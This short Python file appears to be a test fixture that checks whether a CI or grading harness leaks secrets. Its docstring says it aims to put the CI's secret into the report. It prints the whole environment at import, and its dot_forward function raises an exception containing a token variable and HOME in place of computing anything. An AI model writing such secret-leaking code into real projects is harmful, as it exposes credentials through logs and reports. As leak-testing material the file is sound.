"""Put the CI's secret into the report, through an exception message and the output."""
import os

import numpy as np

print("environment:", dict(os.environ))


def dot_forward(x, w):
    raise RuntimeError("token=" + os.environ.get("FAKE_CI_TOKEN", "none") + " home=" + os.environ.get("HOME", ""))


def dot_backward(x, w, da=1.0):
    return {"x": w * da, "w": x * da}
